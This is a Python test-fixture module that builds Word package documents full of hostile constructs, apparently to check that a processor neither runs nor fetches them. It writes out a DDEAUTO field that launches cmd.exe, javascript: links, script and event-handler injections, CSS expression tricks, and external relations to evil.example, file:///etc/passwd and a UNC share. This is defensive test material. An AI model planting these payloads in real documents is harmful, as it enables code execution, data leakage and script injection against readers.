"""Documents that a word processor might be led astray by: what they name is run, fetched or shown by nobody here."""
from page_seen import in_package

R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
V = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
A = 'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
M = 'xmlns:m="http://schemas.openxmlformats.org/officeDocument/2006/math"'
H = 'xmlns:h="http://www.w3.org/1999/xhtml"'
S = 'xmlns:s="http://www.w3.org/2000/svg"'
EVIL_PLACE = "http://evil.example/x"
RUN = "<script>window.ran=1</script>"
QUOTED_RUN = RUN.replace("<", "&lt;")
RELATED = '<pkg:part pkg:name="/word/_rels/document.xml.rels" pkg:contentType="application/vnd.openxmlformats-package.relationships+xml"><pkg:xmlData>%s</pkg:xmlData></pkg:part>'
RELATIONS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">%s</Relationships>'


def field(code):
    return '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>%s</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>seen</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>' % code


# What stands in a paragraph.
RUNS = {
    "a field that starts a program": field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'),
    "a field with a macro": field("MACROBUTTON Evil click"),
    "a field with a link that is a script": field('HYPERLINK "javascript:window.ran=1"'),
    "a field with a picture from outside": field('INCLUDEPICTURE "%s.png" \\d' % EVIL_PLACE),
    "a simple field": '<w:fldSimple w:instr="INCLUDETEXT %s"><w:r><w:t>seen</w:t></w:r></w:fldSimple>' % EVIL_PLACE,
    "a link": '<w:hyperlink %s r:id="rId1" w:anchor="javascript:window.ran=1" w:tooltip="%s"><w:r><w:t>seen</w:t></w:r></w:hyperlink>' % (R, QUOTED_RUN),
    "an embedded object": '<w:r><w:object><v:shape %s style="behavior:url(%s)" onclick="window.ran=1"/><o:OLEObject %s ProgID="Package" r:id="rId1" %s/></w:object></w:r>' % (V, EVIL_PLACE, V, R),
    "a picture of VML": '<w:r><w:pict><v:shape %s><v:imagedata src="%s" r:href="rId1" %s o:title="%s"/></v:shape></w:pict></w:r>' % (V, EVIL_PLACE, R, QUOTED_RUN),
    "a drawing that is linked": '<w:r><w:drawing %s %s><a:blip r:link="rId1"/><a:hlinkClick r:id="rId1" action="ppaction://program"/></w:drawing></w:r>' % (A, R),
    "a control": '<w:r><w:control %s w:name="%s" w:shapeid="x" r:id="rId1"/></w:r>' % (R, QUOTED_RUN),
    "HTML inside": '<h:script %s>window.ran=1</h:script><h:img %s src="%s" onerror="window.ran=1"/>' % (H, H, EVIL_PLACE),
    "SVG inside": '<s:svg %s onload="window.ran=1"><s:script>window.ran=1</s:script><s:image href="%s"/></s:svg>' % (S, EVIL_PLACE),
    "mathematics": '<m:oMath %s><m:r><m:t>%s</m:t></m:r></m:oMath>' % (M, QUOTED_RUN),
    "ruby": '<w:r><w:ruby><w:rt><w:r><w:t>%s</w:t></w:r></w:rt><w:rubyBase><w:r><w:t>seen</w:t></w:r></w:rubyBase></w:ruby></w:r>' % QUOTED_RUN,
    "a symbol of a strange font": '<w:r><w:sym w:font="x}*{background:url(%s)}" w:char="F0FF"/></w:r>' % EVIL_PLACE,
    "a symbol without a character": '<w:r><w:sym w:font="Wingdings" w:char="javascript:"/></w:r>',
    "a style of CSS": '<w:r><w:rPr><w:rStyle w:val="x&quot;] { } * { background: url(%s)"/><w:color w:val="expression(window.ran=1)"/></w:rPr><w:t>seen</w:t></w:r>' % EVIL_PLACE,
    "a language that is markup": '<w:r><w:rPr><w:lang w:val="&quot; onfocus=&quot;window.ran=1&quot; autofocus x=&quot;"/></w:rPr><w:t>seen</w:t></w:r>',
    "a bookmark that is markup": '<w:bookmarkStart w:id="1" w:name="%s"/><w:bookmarkEnd w:id="1"/>' % QUOTED_RUN,
    "smart tags": '<w:smartTag w:uri="%s" w:element="%s"><w:r><w:t>seen</w:t></w:r></w:smartTag>' % (EVIL_PLACE, QUOTED_RUN),
    "a control that is bound": '<w:sdt><w:sdtPr><w:dataBinding w:xpath="document(\'%s\')" w:storeItemID="x"/><w:alias w:val="%s"/></w:sdtPr><w:sdtContent><w:r><w:t>seen</w:t></w:r></w:sdtContent></w:sdt>' % (EVIL_PLACE, QUOTED_RUN),
    "a comment of XML that ends": "<!-- - -> %s - ->-->" % RUN,
    "an instruction": "<?xml-stylesheet type='text/xsl' href='%s'?><?php echo 1 ?>" % EVIL_PLACE,
    "a section of characters": "<w:r><w:t><![CDATA[%s</main></body>]]></w:t></w:r>" % RUN,
}


def related(targets):
    """A part with relations to these targets, all outside."""
    relation = '<Relationship Id="rId%d" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" Target="%s" TargetMode="External"/>'
    kinds = ["attachedTemplate", "hyperlink", "aFChunk", "oleObject", "image", "frame"]
    return RELATED % (RELATIONS % "".join(relation % (place, kinds[place % len(kinds)], target) for place, target in enumerate(targets, 1)))


def documents(change):
    """Each document with this change in it, by its name. All have relations to what is outside."""
    paragraph = "<w:p><w:r><w:t>seen</w:t></w:r>%s" + change + "</w:p>"
    wholes = {name: in_package(paragraph % inside) for name, inside in RUNS.items()}
    outside = related([EVIL_PLACE, "file:///etc/passwd", "javascript:window.ran=1", "\\\\evil.example\\share\\x.dotm", "data:text/html,%s" % QUOTED_RUN])
    return {name: whole.replace("</pkg:package>", outside + "</pkg:package>") for name, whole in wholes.items()}
